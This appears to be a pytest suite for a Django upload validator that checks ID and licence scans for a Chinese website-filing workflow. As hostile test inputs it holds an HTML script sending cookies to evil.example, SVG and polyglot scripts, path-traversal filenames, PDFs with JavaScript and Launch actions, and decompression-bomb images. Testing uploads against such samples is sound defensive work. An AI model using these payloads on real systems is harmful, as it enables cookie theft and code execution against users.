"""Upload checks (wagtail_beian.uploads): the D01–D03 scans and ticket attachments.

Every file here is real: images made with Pillow, PDFs and hostile files written byte by byte.
A refused file is refused with its own ``code``, a message that says what to upload instead,
and nothing written to the private storage.
"""

import hashlib
import io
import os
import struct
import unicodedata
import zipfile
import zlib

import pytest
from django import forms
from django.conf import settings
from django.core.exceptions import ImproperlyConfigured, ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile, UploadedFile
from django.utils import translation
from hypothesis import given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st
from PIL import ExifTags, Image, ImageCms
from PIL.PngImagePlugin import PngInfo

from tests.factories import FilingFactory, pdf_bytes, png_bytes
from wagtail_beian import uploads
from wagtail_beian.printouts import verification_sheet
from wagtail_beian.uploads import CleanUpload, ScanField, max_upload_size, validate_upload

MB = 1024 * 1024


# ----------------------------------------------------------------------------- real files


def jpeg_bytes(width=400, height=300, colour=(30, 120, 200), mode="RGB", **save):
    image = Image.new(mode, (width, height), colour)
    out = io.BytesIO()
    image.save(out, "JPEG", quality=90, **save)
    return out.getvalue()


def pillow_png(image, **save):
    out = io.BytesIO()
    image.save(out, "PNG", **save)
    return out.getvalue()


def png_chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def png_claiming(width, height):
    """A well-formed PNG header that claims width × height (1-bit grey) over a tiny IDAT: decoding
    it would need the claimed memory, reading its header costs nothing."""
    ihdr = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    idat = zlib.compress(b"\x00" + b"\x00" * ((min(width, 64) + 7) // 8))
    return b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", ihdr) + png_chunk(b"IDAT", idat) + png_chunk(b"IEND", b"")


def make_pdf(catalog_extra=b"", extra_objects=(), trailer_extra=b""):
    """A one-page PDF with correct offsets; extra catalog entries and objects for hostile ones."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 100] /Contents 4 0 R >>",
    ]
    text = b"BT /F1 12 Tf 10 50 Td (scan) Tj ET"
    objects.append(b"<< /Length %d >>\nstream\n" % len(text) + text + b"\nendstream")
    objects.extend(extra_objects)
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer_extra, xref))
    return out.getvalue()


def pdf_of_size(size):
    """A valid PDF of exactly ``size`` bytes (the page text pads it)."""
    n = size - len(pdf_bytes(""))
    while len(pdf_bytes("a" * n)) > size:
        n -= 1
    data = pdf_bytes("a" * n)
    assert len(data) == size
    return data


def upload(data, name="scan.jpg", content_type="image/jpeg"):
    """What Django hands a view: the browser's name and content type, which prove nothing."""
    return SimpleUploadedFile(name, data, content_type=content_type)


class CountingFile(io.BytesIO):
    """A file that remembers how many bytes were read from it."""

    bytes_read = 0

    def read(self, size=-1):
        chunk = super().read(size)
        self.bytes_read += len(chunk)
        return chunk


def stored_files():
    root = settings.STORAGES["wagtail_beian_private"]["OPTIONS"]["location"]
    return sorted(os.path.join(d, f) for d, _dirs, files in os.walk(root) for f in files)


def refused(data_or_file, name="scan.jpg", **kwargs):
    """The ValidationError for one file; also checks that nothing reached the storage."""
    before = stored_files()
    file = data_or_file if hasattr(data_or_file, "read") else upload(data_or_file, name)
    with translation.override("en"):
        with pytest.raises(ValidationError) as caught:
            validate_upload(file, **kwargs)
        error = caught.value
        error.text = " ".join(error.messages)  # the messages are lazy: read them in English
    assert stored_files() == before
    assert len(error.error_list) == 1
    return error


# ----------------------------------------------------------------------------- accepted kinds


def test_d01_jpeg_scan_is_accepted_and_described_by_its_content():
    clean = validate_upload(upload(jpeg_bytes(), "营业执照.JPEG", content_type="application/octet-stream"))
    assert isinstance(clean, CleanUpload)
    assert (clean.content_type, clean.extension, clean.original_name) == ("image/jpeg", ".jpg", "营业执照.jpg")
    assert (clean.width, clean.height) == (400, 300)
    assert clean.size == len(clean.content)
    assert clean.sha256 == hashlib.sha256(clean.content).hexdigest()
    assert Image.open(io.BytesIO(clean.content)).format == "JPEG"


def test_d02_png_scan_is_accepted():
    clean = validate_upload(upload(png_bytes(320, 240), "id-front.png", "image/png"))
    assert (clean.content_type, clean.extension, clean.original_name) == ("image/png", ".png", "id-front.png")
    assert (clean.width, clean.height) == (320, 240)
    assert Image.open(io.BytesIO(clean.content)).getpixel((5, 5)) == (200, 30, 30)


def test_d01_pdf_is_kept_byte_for_byte():
    data = pdf_bytes("security agreement")
    clean = validate_upload(upload(data, "信息安全管理协议书.pdf", "application/pdf"))
    assert clean.content == data
    assert (clean.content_type, clean.extension, clean.size) == ("application/pdf", ".pdf", len(data))
    assert clean.sha256 == hashlib.sha256(data).hexdigest()
    assert (clean.width, clean.height) == (None, None)


def test_the_smallest_readable_scan_is_accepted():
    clean = validate_upload(upload(jpeg_bytes(200, 200)))
    assert (clean.width, clean.height) == (200, 200)


def test_a_file_with_no_extension_gets_the_real_one():
    assert validate_upload(upload(jpeg_bytes(), "IMG_0001")).original_name == "IMG_0001.jpg"
    # A dot inside the name is not an extension.
    assert validate_upload(upload(pdf_bytes(), "身份证 v1.2")).original_name == "身份证 v1.2.pdf"


@pytest.mark.django_db
def test_d01_clean_upload_is_stored_under_a_random_name(filing):
    from wagtail_beian.models import Document
    from wagtail_beian.rules import documents as kinds

    clean = validate_upload(upload(jpeg_bytes(), "../../etc/张三身份证.jpg"))
    content_file = clean.as_content_file()
    assert content_file.name == "upload.jpg"
    document = Document.objects.create(
        filing=filing, kind=kinds.ORGANIZER_CERTIFICATE, file=content_file,
        original_name=clean.original_name, content_type=clean.content_type, size=clean.size,
        sha256=clean.sha256,
    )
    document.refresh_from_db()
    assert document.original_name == "张三身份证.jpg"
    assert document.file.name.startswith("beian/") and document.file.name.endswith(".jpg")
    assert "upload" not in document.file.name and "张三" not in document.file.name
    with document.file.open("rb") as handle:
        assert handle.read() == clean.content


# ----------------------------------------------------------------------------- metadata is removed


def exif_with_gps(orientation=None):
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "HUAWEI"
    exif[ExifTags.Base.Model] = "P60 serial 8841"
    if orientation:
        exif[ExifTags.Base.Orientation] = orientation
    gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
    gps[ExifTags.GPS.GPSLatitudeRef] = "N"
    gps[ExifTags.GPS.GPSLatitude] = (39.0, 54.0, 27.0)
    gps[ExifTags.GPS.GPSLongitudeRef] = "E"
    gps[ExifTags.GPS.GPSLongitude] = (116.0, 23.0, 17.0)
    return exif


def test_d01_photo_loses_exif_and_gps_location():
    data = jpeg_bytes(exif=exif_with_gps(), xmp=b"<x:xmpmeta>GPS 39.9 116.4</x:xmpmeta>", comment=b"owner")
    original = Image.open(io.BytesIO(data)).getexif()
    assert original.get_ifd(ExifTags.IFD.GPSInfo)[ExifTags.GPS.GPSLatitudeRef] == "N"  # the test file has GPS

    clean = validate_upload(upload(data, "现场照片.jpg"))
    cleaned = Image.open(io.BytesIO(clean.content))
    assert len(cleaned.getexif()) == 0
    assert cleaned.getexif().get_ifd(ExifTags.IFD.GPSInfo) == {}
    assert b"Exif" not in clean.content
    assert b"HUAWEI" not in clean.content and b"xmpmeta" not in clean.content
    assert b"owner" not in clean.content
    assert "xmp" not in cleaned.info and "comment" not in cleaned.info


def test_d02_photo_taken_sideways_stays_upright():
    # Stored 400 × 300 with a red corner at the top left; orientation 6 = the camera was turned
    # a quarter clockwise, so viewers show it 300 × 400 with that corner at the top right.
    image = Image.new("RGB", (400, 300), (255, 255, 255))
    image.paste((255, 0, 0), (0, 0, 60, 60))
    out = io.BytesIO()
    image.save(out, "JPEG", quality=95, exif=exif_with_gps(orientation=6))

    clean = validate_upload(upload(out.getvalue(), "id-back.jpg"))
    cleaned = Image.open(io.BytesIO(clean.content))
    assert cleaned.size == (300, 400) == (clean.width, clean.height)
    red, green, blue = cleaned.getpixel((299 - 20, 20))
    assert red > 200 and green < 60 and blue < 60, "the red corner is not where the camera saw it"
    assert ExifTags.Base.Orientation not in cleaned.getexif()  # not rotated a second time


def test_jpeg_html_polyglot_loses_the_appended_script():
    polyglot = jpeg_bytes() + b"<html><body><script>fetch('/admin/').then(alert)</script></body></html>"
    assert Image.open(io.BytesIO(polyglot)).format == "JPEG"  # still a valid JPEG
    clean = validate_upload(upload(polyglot))
    assert b"<script" not in clean.content and b"<html" not in clean.content
    assert clean.content.endswith(b"\xff\xd9")


def test_png_loses_text_chunks_and_exif():
    info = PngInfo()
    info.add_text("Comment", "<script>alert(1)</script>")
    info.add_text("Author", "张三", zip=True)
    info.add_itxt("XML:com.adobe.xmp", "<x:xmpmeta>secret</x:xmpmeta>")
    data = pillow_png(Image.new("RGB", (300, 300), "white"), pnginfo=info, exif=exif_with_gps())
    assert b"tEXt" in data and b"eXIf" in data

    clean = validate_upload(upload(data, "scan.png", "image/png"))
    for marker in (b"tEXt", b"zTXt", b"iTXt", b"eXIf", b"<script", b"xmpmeta"):
        assert marker not in clean.content, marker
    assert Image.open(io.BytesIO(clean.content)).text == {}


def test_icc_profile_is_applied_and_dropped():
    profile = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    clean = validate_upload(upload(jpeg_bytes(icc_profile=profile)))
    assert "icc_profile" not in Image.open(io.BytesIO(clean.content)).info


@pytest.mark.parametrize(
    ("image", "fmt", "mode"),
    [
        (Image.new("CMYK", (300, 300), (0, 255, 255, 0)), "JPEG", "RGB"),
        (Image.new("L", (300, 300), 128), "JPEG", "L"),
        (Image.new("1", (300, 300), 1), "PNG", "1"),          # black-and-white document scan
        (Image.new("RGBA", (300, 300), (0, 0, 0, 0)), "PNG", "RGBA"),
        (Image.new("P", (300, 300), 3), "PNG", "RGB"),
    ],
    ids=["cmyk-jpeg", "grey-jpeg", "1bit-png", "rgba-png", "palette-png"],
)
def test_image_modes_are_kept_viewable(image, fmt, mode):
    out = io.BytesIO()
    image.save(out, fmt)
    clean = validate_upload(upload(out.getvalue(), "scan." + fmt.lower().replace("jpeg", "jpg")))
    cleaned = Image.open(io.BytesIO(clean.content))
    assert (cleaned.format, cleaned.mode) == (fmt, mode)


def test_palette_png_keeps_its_transparency():
    image = Image.new("P", (300, 300), 1)
    image.putpalette(bytes(range(256)) * 3)
    clean = validate_upload(upload(pillow_png(image, transparency=1), "logo.png"))
    cleaned = Image.open(io.BytesIO(clean.content))
    assert cleaned.mode == "RGBA" and cleaned.getpixel((10, 10))[3] == 0


# ----------------------------------------------------------------------------- names


@pytest.mark.parametrize(
    ("name", "data", "expected"),
    [
        ("../../etc/passwd.jpg", jpeg_bytes(), "passwd.jpg"),
        ("..\\..\\windows\\system.ini.jpg", jpeg_bytes(), "system.ini.jpg"),
        ("C:\\Users\\张三\\Desktop\\身份证正面.jpg", jpeg_bytes(), "身份证正面.jpg"),
        ("..／..／x.png", png_bytes(300, 300), "x.png"),           # full-width solidus (NFKC)
        ("..∕..∕x.png", png_bytes(300, 300), "x.png"),            # division slash
        ("..⁄..⁄x.png", png_bytes(300, 300), "x.png"),            # fraction slash
        ("＼..＼x.png", png_bytes(300, 300), "x.png"),             # full-width reverse solidus
        ("scan\x00.php.jpg", jpeg_bytes(), "scan.php.jpg"),      # NUL
        ("scan\u202egnp.jpg", jpeg_bytes(), "scangnp.jpg"),      # right-to-left override
        ("line\r\nbreak\t.jpg", jpeg_bytes(), "linebreak.jpg"),
        ("ＩＤ　card．ｊｐｇ", jpeg_bytes(), "ID card.jpg"),     # full-width letters, space and dot
        ("cafe\u200b\u0301.jpg", jpeg_bytes(), "café.jpg"),   # zero-width space removed, accent composed
        ('<script>"x"|?.jpg', jpeg_bytes(), "scriptx.jpg"),
        ("...jpg", jpeg_bytes(), "jpg.jpg"),
        ("../../", jpeg_bytes(), "upload.jpg"),
        ("", jpeg_bytes(), "upload.jpg"),
        ("Scan.JFIF", jpeg_bytes(), "Scan.jpg"),
    ],
)
def test_original_name_is_a_safe_basename_with_the_real_extension(name, data, expected):
    # A plain file object keeps the name as the client sent it (Django's UploadedFile already
    # drops POSIX directories, but not backslashes or look-alike slashes).
    file = io.BytesIO(data)
    file.name = name
    assert validate_upload(file).original_name == expected


def test_path_traversal_name_through_django_upload_is_sanitised():
    assert validate_upload(upload(jpeg_bytes(), "../../etc/passwd.jpg")).original_name == "passwd.jpg"
    assert validate_upload(upload(png_bytes(300, 300), "..／..／x.png")).original_name == "x.png"


SMALL_JPEG = jpeg_bytes(200, 200)


@hypothesis_settings(max_examples=150, deadline=None)
@given(st.text(alphabet=st.characters(codec="utf-8"), max_size=300).map(lambda s: s + ".jpg"))
def test_any_name_becomes_a_harmless_display_name(name):
    file = io.BytesIO(SMALL_JPEG)
    file.name = name
    shown = validate_upload(file).original_name
    assert 5 <= len(shown) <= 100 and shown.endswith(".jpg")
    assert not shown.startswith((".", " "))
    assert not any(c in shown for c in "/\\\x00<>:\"|?*")
    assert shown == unicodedata.normalize("NFKC", shown)
    assert not any(unicodedata.category(c).startswith("C") for c in shown)


def test_long_names_are_cut_to_100_characters_keeping_the_extension():
    name = "营业执照" * 60 + ".jpeg"
    clean = validate_upload(upload(jpeg_bytes(), name))
    assert len(clean.original_name) == 100
    assert clean.original_name == "营业执照" * 24 + ".jpg"


# ----------------------------------------------------------------------------- the corpus of bad files


def gif_bytes():
    out = io.BytesIO()
    Image.new("P", (300, 300), 1).save(out, "GIF")
    return out.getvalue()


def docx_bytes():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<w:document>身份证</w:document>")
    return out.getvalue()


HTML = b"<!DOCTYPE html><html><body><script>document.location='https://evil.example/?c='+document.cookie</script></body></html>"
SVG = b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="300" height="300"><script>alert(document.domain)</script></svg>'
HEIC = b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + b"\x00" * 64


@pytest.mark.parametrize(
    ("data", "name", "what"),
    [
        (HTML, "id-front.jpg", "web page (HTML)"),
        (b"\xef\xbb\xbf  \n" + HTML, "id-front.png", "web page (HTML)"),
        (SVG, "id-front.jpg", "SVG drawing"),
        (gif_bytes(), "scan.gif", "GIF image"),
        (docx_bytes(), "scan.docx", "Office document"),
        (b"MZ\x90\x00\x03" + b"\x00" * 200, "scan.jpg", "program"),
        (b"\x7fELF\x02\x01\x01" + b"\x00" * 200, "scan.pdf", "program"),
        ("营业执照号码 91110108MA01234567".encode(), "scan.txt", "text file"),
        (b"RIFF\x00\x10\x00\x00WEBPVP8 " + b"\x00" * 64, "scan.webp", "WebP image"),
        (b"BM\x36\x10\x0e\x00\x00\x00\x00\x00\x36\x00" + b"\x00" * 64, "scan.bmp", "BMP image"),
        (b"II*\x00\x08\x00\x00\x00" + b"\x00" * 64, "scan.tif", "TIFF image"),
        (bytes(range(256)) * 4, "scan.jpg", None),  # unknown binary
    ],
    ids=["html-as-jpg", "html-with-bom", "svg-script", "gif", "docx", "exe", "elf", "text", "webp", "bmp",
         "tiff", "unknown"],
)
def test_only_jpeg_png_and_pdf_content_is_accepted(data, name, what):
    error = refused(data, name)
    assert error.code == "unsupported_type"
    assert "a JPEG or PNG image or a PDF" in error.text  # what to upload instead
    if what:
        assert what in error.text
    assert "<script" not in error.text


def test_iphone_heic_photo_is_refused_with_how_to_export_jpeg():
    error = refused(HEIC, "IMG_4021.HEIC")
    assert error.code == "unsupported_type"
    assert "HEIC" in error.text and "JPEG" in error.text and "Most Compatible" in error.text


@pytest.mark.parametrize(
    ("data", "name", "found", "extension"),
    [
        (pdf_bytes(), "id-front.jpg", "a PDF", ".jpg"),
        (jpeg_bytes(), "agreement.pdf", "a JPEG image", ".pdf"),
        (jpeg_bytes(), "scan.png", "a JPEG image", ".png"),
        (png_bytes(300, 300), "scan.JPG", "a PNG image", ".jpg"),
        (jpeg_bytes(), "photo.exe", "a JPEG image", ".exe"),
        (jpeg_bytes(), "photo.jpg.html", "a JPEG image", ".html"),
    ],
)
def test_a_name_that_disagrees_with_the_content_is_refused(data, name, found, extension):
    error = refused(data, name)
    assert error.code == "extension_mismatch"
    assert f"The file is {found} but its name ends in {extension}" in error.text


def test_allowed_narrows_the_kinds():
    photos_only = ("image/jpeg", "image/png")
    error = refused(pdf_bytes(), "photo.pdf", allowed=photos_only)
    assert error.code == "type_not_allowed"
    assert error.text == "This file is a PDF; only a JPEG or PNG image can be uploaded here."
    assert validate_upload(upload(jpeg_bytes()), allowed=photos_only).content_type == "image/jpeg"
    error = refused(HTML, "x.jpg", allowed=("application/pdf",))
    assert error.code == "unsupported_type" and "only a PDF can be uploaded" in error.text
    with pytest.raises(ImproperlyConfigured):
        validate_upload(upload(jpeg_bytes()), allowed=("image/gif",))
    with pytest.raises(ImproperlyConfigured):
        validate_upload(upload(jpeg_bytes()), allowed=())


# --- size


def test_zero_byte_file_is_refused():
    error = refused(b"", "id-front.jpg")
    assert error.code == "empty"
    assert "empty" in error.text and "scan or photograph the document again" in error.text


def test_a_20_mb_file_is_refused_without_being_read():
    data = jpeg_bytes()
    data = data + b"\x00" * (20 * MB - len(data))
    counting = CountingFile(data)
    error = refused(UploadedFile(counting, name="big.jpg", size=len(data)))
    assert error.code == "too_large"
    assert error.text.startswith("The file is larger than 5 MB.") and "Compress" in error.text
    assert counting.bytes_read == 0
    assert refused(SimpleUploadedFile("big.jpg", data)).code == "too_large"


def test_a_file_of_max_plus_one_bytes_is_refused_and_max_is_accepted():
    limit = max_upload_size()
    assert limit == 5 * MB
    assert refused(pdf_of_size(limit + 1), "agreement.pdf").code == "too_large"
    exactly = pdf_of_size(limit)
    assert validate_upload(upload(exactly, "agreement.pdf")).size == limit


def test_a_file_that_does_not_say_its_size_is_read_only_up_to_the_limit():
    counting = CountingFile(b"%PDF-1.4\n" + b"0" * (6 * MB))
    error = refused(UploadedFile(counting, name="stream.pdf", size=None))
    assert error.code == "too_large"
    assert counting.bytes_read == max_upload_size() + 1


def test_the_limit_comes_from_the_setting_or_the_argument(settings):
    settings.WAGTAIL_BEIAN_MAX_UPLOAD_SIZE = 1 * MB
    assert max_upload_size() == MB
    data = pdf_of_size(MB + 1)
    error = refused(data, "agreement.pdf")
    assert error.code == "too_large" and "larger than 1 MB" in error.text
    assert validate_upload(upload(data, "agreement.pdf"), max_size=2 * MB).size == MB + 1
    assert "larger than 512 KB" in refused(data, "a.pdf", max_size=512 * 1024).text


# --- images


def test_truncated_jpeg_is_refused():
    data = jpeg_bytes(800, 600, colour=(10, 10, 10))
    error = refused(data[: len(data) // 2])
    assert error.code == "image_corrupt"
    assert "damaged or incomplete" in error.text and "upload the new file" in error.text


@pytest.mark.parametrize(
    "data",
    [
        png_bytes(300, 300)[:-40],                                          # truncated
        png_bytes(300, 300)[:33] + b"\x00\x00\x00\x10IDAT" + b"\xff" * 20,  # garbage pixel data
        b"\xff\xd8\xff\xe0" + b"\x00" * 300,                                # JPEG magic, nothing else
    ],
    ids=["truncated-png", "broken-idat", "jpeg-magic-only"],
)
def test_damaged_images_are_refused(data):
    name = "scan.jpg" if data.startswith(b"\xff\xd8") else "scan.png"
    assert refused(data, name).code == "image_corrupt"


@pytest.mark.parametrize(
    ("width", "height"),
    [
        (50_000, 50_000),  # Pillow itself calls this a bomb (over 2 × MAX_IMAGE_PIXELS)
        (10_000, 10_000),  # Pillow only warns (DecompressionBombWarning): refused all the same
        (8_000, 6_000),    # 48 million pixels, over our 40 million
        (13_000, 300),     # one side over 12000
    ],
)
def test_decompression_bomb_is_refused_before_decoding(width, height):
    # The IDAT holds a few bytes: had the pixels been decoded, the error would be image_corrupt.
    error = refused(png_claiming(width, height), "bomb.png")
    assert error.code == "image_too_large"
    assert "12000 pixels on each side and 40 million pixels" in error.text


@pytest.mark.parametrize(("width", "height"), [(10, 10), (199, 800), (800, 150)])
def test_tiny_images_are_refused_as_unreadable(width, height):
    error = refused(jpeg_bytes(width, height))
    assert error.code == "image_too_small"
    assert f"only {width} × {height} pixels" in error.text and "at least 200 pixels" in error.text


# --- PDFs


@pytest.mark.parametrize(
    ("data", "names"),
    [
        (make_pdf(b"/OpenAction 5 0 R", [b"<< /S /JavaScript /JS (app.alert(1)) >>"]), "/JS, /JavaScript, /OpenAction"),
        (make_pdf(b"/Names << /JavaScript 5 0 R >>", [b"<< /Names [(a) 6 0 R] >>"]), "/JavaScript"),
        (make_pdf(b"/Names << /J#61vaScript 5 0 R >>", [b"<< /Names [] >>"]), "/JavaScript"),
        (make_pdf(b"/Open#41ction 5 0 R", [b"<< /S /GoToR /F (x.pdf) >>"]), "/OpenAction"),
        (make_pdf(b"/OpenAction << /S /Named /N /Print >>"), "/OpenAction"),
        (make_pdf(b"/AA << /WC 5 0 R >>", [b"<< /S /Launch /F (cmd.exe) >>"]), "/AA, /Launch"),
        (make_pdf(b"/Names << /EmbeddedFiles 5 0 R >>", [b"<< /Type /EmbeddedFile /Length 0 >>\nstream\n\nendstream"]),
         "/EmbeddedFile, /EmbeddedFiles"),
        (make_pdf(b"/AcroForm << /XFA 5 0 R >>", [b"<< /Length 0 >>\nstream\n\nendstream"]), "/XFA"),
        (make_pdf(b"", [b"<< /Type /Annot /Subtype /RichMedia >>"]), "/RichMedia"),
    ],
    ids=["openaction-javascript", "names-javascript", "hex-escaped-javascript", "hex-escaped-openaction",
         "openaction", "additional-actions-launch", "embedded-file", "xfa", "richmedia"],
)
def test_pdf_with_scripts_or_automatic_actions_is_refused(data, names):
    error = refused(data, "agreement.pdf")
    assert error.code == "pdf_active_content"
    assert f"({names})" in error.text and "Print it to a new PDF" in error.text


def object_stream_pdf(catalog):
    """A PDF 1.5 file whose catalog sits compressed inside an object stream."""
    objects = b"1 0 " + catalog
    body = zlib.compress(objects)
    stream = b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(body)
    return b"%PDF-1.5\n5 0 obj\n" + stream + body + b"\nendstream\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"


@pytest.mark.parametrize("open_at", [b"/OpenAction [3 0 R /Fit]", b"/OpenAction [3 0 R /FitH null]",
                                     b"/OpenAction [3 0 R /XYZ null null 1.25]", b"/Open#41ction [3 0 R /Fit]"])
def test_a_pdf_that_only_opens_at_its_first_page_is_accepted(open_at):
    """Word, WPS and PDF libraries (fpdf2, our own verification sheet) add a destination to open at:
    it does nothing, unlike an action."""
    assert validate_upload(SimpleUploadedFile("scan.pdf", make_pdf(open_at))).content_type == "application/pdf"


@pytest.mark.django_db
def test_the_generated_verification_sheet_passes_the_upload_checks(customer):
    sheet = verification_sheet(FilingFactory(owner=customer))
    assert validate_upload(SimpleUploadedFile("sheet.pdf", sheet)).content_type == "application/pdf"


def test_pdf_script_hidden_in_a_compressed_object_stream_is_refused():
    hostile = object_stream_pdf(b"<< /Type /Catalog /OpenAction << /S /JavaScript /JS (x) >> >>")
    assert b"JavaScript" not in hostile  # invisible to a plain byte search
    assert refused(hostile, "a.pdf").code == "pdf_active_content"
    harmless = object_stream_pdf(b"<< /Type /Catalog /Pages 2 0 R >>")
    assert validate_upload(upload(harmless, "a.pdf")).content == harmless


def test_object_stream_in_a_filter_that_cannot_be_checked_is_refused():
    data = object_stream_pdf(b"<< /Type /Catalog >>").replace(b"/FlateDecode", b"/LZWDecode")
    assert refused(data, "a.pdf").code == "pdf_unreadable"


def test_bytes_inside_an_image_stream_are_not_mistaken_for_scripts():
    # A big scan's raw JPEG data holds random bytes; "/JS " among them is not a script.
    image = b"\xff\xd8\xff\xe0" + b"\x13/JS (x) /OpenAction /AA " * 100 + b"\xff\xd9"
    xobject = b"<< /Type /XObject /Subtype /Image /Width 10 /Height 10 /Filter /DCTDecode /Length %d >>\nstream\n" % len(image)
    data = make_pdf(b"", [xobject + image + b"\nendstream"])
    assert validate_upload(upload(data, "scan.pdf")).content == data
    # ...but the same bytes outside a stream of certain length are read as PDF syntax.
    lying = make_pdf(b"", [xobject.replace(b"/Length %d" % len(image), b"/Length 3") + image + b"\nendstream"])
    assert refused(lying, "scan.pdf").code == "pdf_active_content"


def test_encrypted_pdf_is_refused():
    data = make_pdf(b"", [b"<< /Filter /Standard /V 2 /R 3 /O <00> /U <00> /P -4 >>"], trailer_extra=b"/Encrypt 5 0 R ")
    error = refused(data, "agreement.pdf")
    assert error.code == "pdf_encrypted"
    assert "upload an unprotected PDF" in error.text


@pytest.mark.parametrize(
    "data",
    [
        pdf_bytes()[:-200],                      # cut off: no %%EOF
        pdf_bytes().replace(b"%%EOF", b"") + b"\n" + b"%%EOF" + b" " * 2000,  # %%EOF far from the end
        b"%PDF-1.4\n" + b"garbage" * 10,
    ],
    ids=["truncated", "eof-not-at-end", "no-eof"],
)
def test_incomplete_pdf_is_refused(data):
    error = refused(data, "agreement.pdf")
    assert error.code == "pdf_unreadable"
    assert "damaged or incomplete" in error.text


# ----------------------------------------------------------------------------- every message says what to do


def test_every_refusal_message_says_what_to_upload_in_english_and_chinese():
    params = {
        "limit": "5 MB", "kinds": "JPEG", "found": "PDF", "extension": ".jpg", "expected": ".pdf",
        "max_side": 12000, "max_megapixels": 40, "width": 10, "height": 10, "min_side": 200,
    }
    for code, message in uploads.MESSAGES.items():
        with translation.override("en"):
            english = str(message) % params
        with translation.override("zh-hans"):
            chinese = str(message) % params
        assert "upload" in english.lower(), code
        assert "上传" in chinese, (code, chinese)


# ----------------------------------------------------------------------------- the form field


class ScanForm(forms.Form):
    scan = ScanField(label="营业执照")


class PhotoForm(forms.Form):
    photo = ScanField(allowed=("image/jpeg", "image/png"), required=False)


def test_scan_field_returns_a_clean_upload():
    form = ScanForm(data={}, files={"scan": upload(jpeg_bytes(exif=exif_with_gps()), "../营业执照.jpg")})
    assert form.is_valid(), form.errors
    clean = form.cleaned_data["scan"]
    assert isinstance(clean, CleanUpload)
    assert clean.original_name == "营业执照.jpg" and b"Exif" not in clean.content


def test_scan_field_tells_the_browser_which_files_to_offer():
    assert 'accept=".jpg,.jpeg,.png,.pdf"' in str(ScanForm()["scan"])
    assert 'accept=".jpg,.jpeg,.png"' in str(PhotoForm()["photo"])


def test_scan_field_error_in_chinese_and_english():
    def errors(language, name, data):
        with translation.override(language):
            form = ScanForm(data={}, files={"scan": upload(data, name)})
            assert not form.is_valid()
            assert len(form.errors["scan"]) == 1
            return form.errors.as_data()["scan"][0].code, list(form.errors["scan"])  # rendered here

    code, zh = errors("zh-hans", "id.jpg", HTML)
    assert code == "unsupported_type"
    assert "网页" in zh[0] and "JPEG" in zh[0] and "上传" in zh[0]
    assert "This file" not in zh[0]
    code, en = errors("en", "id.jpg", HTML)
    assert code == "unsupported_type"
    assert en[0] == "This file is a web page (HTML); only a JPEG or PNG image or a PDF can be uploaded here."

    code, zh_big = errors("zh-hans", "big.jpg", b"\xff\xd8\xff" + b"\x00" * (5 * MB + 1))
    assert code == "too_large"
    assert zh_big[0] == "文件超过 5 MB。请压缩图片或降低扫描分辨率（200 至 300 dpi 即可）后重新上传。"
    code, zh_empty = errors("zh-hans", "empty.jpg", b"")
    assert code == "empty"
    assert zh_empty[0].startswith("文件为空")  # our message, not Django's generic one
    code, en_empty = errors("en", "empty.jpg", b"")
    assert "empty" in en_empty[0] and "scan or photograph" in en_empty[0]


def test_scan_field_narrowed_to_photos_and_optional():
    form = PhotoForm(data={}, files={"photo": upload(pdf_bytes(), "photo.pdf")})
    assert not form.is_valid() and form.errors.as_data()["photo"][0].code == "type_not_allowed"
    form = PhotoForm(data={}, files={})
    assert form.is_valid() and form.cleaned_data["photo"] is None


def test_scan_field_keeps_the_initial_file_when_nothing_new_is_uploaded():
    field = ScanField()
    initial = SimpleUploadedFile("already-stored.pdf", pdf_bytes())
    assert field.clean(None, initial) is initial
